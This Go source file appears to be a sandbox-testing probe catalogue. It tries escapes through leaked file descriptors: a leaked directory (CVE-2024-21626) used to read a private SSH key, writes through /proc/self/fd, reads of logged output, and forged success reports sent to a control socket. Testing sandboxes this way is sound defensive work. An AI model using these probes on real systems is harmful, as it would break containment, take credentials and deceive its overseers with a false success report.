package catalogue

import (
	"fmt"
	"os"
	"slices"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// descriptors are ways through what was open when the sandbox was started.
func descriptors() []Probe {
	fds := []string{FDs}
	beyond := []string{FDs, View, Landlock}
	list := []Probe{
		{ID: "17", Title: "find a descriptor of the daemon", Walls: fds, try: findLeaked},
		{ID: "17b", Title: "walk out through a leaked directory (CVE-2024-21626)", Walls: beyond, try: walkLeaked},
		{ID: "17c", Title: "write a leaked file", Walls: fds, try: writeLeaked},
		{ID: "17d", Title: "reopen a leaked file for writing by /proc/self/fd", Walls: beyond, try: reopenLeaked},
		{ID: "17e", Title: "enter the tree through a leaked directory's ..", Walls: beyond, try: chdirLeaked},
		{ID: "67", Title: "read what was written to standard output", Layer: View, Walls: []string{View, Landlock}, try: readOutput},
		{ID: "70", Title: "forge a report on the control socket", Walls: fds, try: forgeReport},
		{ID: "70b", Title: "hang up the control socket", Walls: fds, try: hangUp},
	}
	for i := range list {
		list[i].Level = guarded
		if list[i].Layer == "" {
			list[i].Layer = FDs
		}
	}
	return list
}

// findLeaked looks at everything that is open; 0 to 2 and the runtime's own are expected.
func findLeaked(t *Target) Outcome {
	var found []string
	for fd := 3; fd < 256; fd++ {
		to, err := os.Readlink(procFD(fd))
		if err != nil || strings.HasPrefix(to, "anon_inode:[event") {
			continue
		}
		if slices.Contains(t.Leaked, fd) || strings.HasPrefix(to, "socket:") {
			found = append(found, strconv.Itoa(fd)+" "+to)
		}
	}
	if len(found) == 0 {
		return no("only 0 to 2")
	}
	return through("%s", strings.Join(found, ", "))
}

// leaked is the directory, then the file.
func leaked(t *Target) (dir, file int, err error) {
	if len(t.Leaked) != 2 {
		return 0, 0, fmt.Errorf("%d descriptors were leaked", len(t.Leaked))
	}
	return t.Leaked[0], t.Leaked[1], nil
}

func walkLeaked(t *Target) Outcome {
	dir, _, err := leaked(t)
	if err != nil {
		return broken("%v", err)
	}
	fd, err := unix.Openat(dir, "home/.ssh/id_ed25519", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return refused(err)
	}
	defer unix.Close(fd)
	return readFD(fd)
}

func chdirLeaked(t *Target) Outcome {
	dir, _, err := leaked(t)
	if err != nil {
		return broken("%v", err)
	}
	if err := unix.Fchdir(dir); err != nil {
		return refused(err)
	}
	return writeFile("../planted", t.Mark)
}

func writeLeaked(t *Target) Outcome {
	_, file, err := leaked(t)
	if err != nil {
		return broken("%v", err)
	}
	if _, err := unix.Write(file, []byte(t.Mark)); err != nil {
		return refused(err)
	}
	return attempted("wrote")
}

func reopenLeaked(t *Target) Outcome {
	_, file, err := leaked(t)
	if err != nil {
		return broken("%v", err)
	}
	return writeFile(procFD(file), t.Mark)
}

// readOutput reopens the standard output for reading: what others wrote to a log must not come back.
func readOutput(*Target) Outcome {
	for _, fd := range []int{1, 2} {
		var st unix.Stat_t
		if err := unix.Fstat(fd, &st); err != nil {
			return broken("stat: %v", err)
		}
		if st.Mode&unix.S_IFMT == unix.S_IFCHR {
			continue
		}
		again, err := unix.Open(procFD(fd), unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		defer unix.Close(again)
		buf := make([]byte, 1<<16)
		if n, err := unix.Read(again, buf); err == nil && n > 0 {
			return Outcome{Claim: Attempted, Detail: fmt.Sprintf("read %d bytes", n), Loot: string(buf[:n])}
		}
	}
	return no("nothing to read")
}

// forgeReport sends what looks like an end with success on every socket that is open.
func forgeReport(*Target) Outcome {
	var last error = unix.EBADF
	for fd := 3; fd < 16; fd++ {
		if err := unix.Send(fd, []byte{4, 0, 0, 0}, unix.MSG_NOSIGNAL|unix.MSG_DONTWAIT); err == nil {
			return through("descriptor %d took it", fd)
		} else if err != unix.EBADF && err != unix.ENOTSOCK {
			last = err
		}
	}
	return refused(last)
}

func hangUp(*Target) Outcome {
	var last error = unix.EBADF
	for fd := 3; fd < 16; fd++ {
		if err := unix.Shutdown(fd, unix.SHUT_RDWR); err == nil {
			return through("descriptor %d", fd)
		} else if err != unix.EBADF && err != unix.ENOTSOCK {
			last = err
		}
	}
	return refused(last)
}
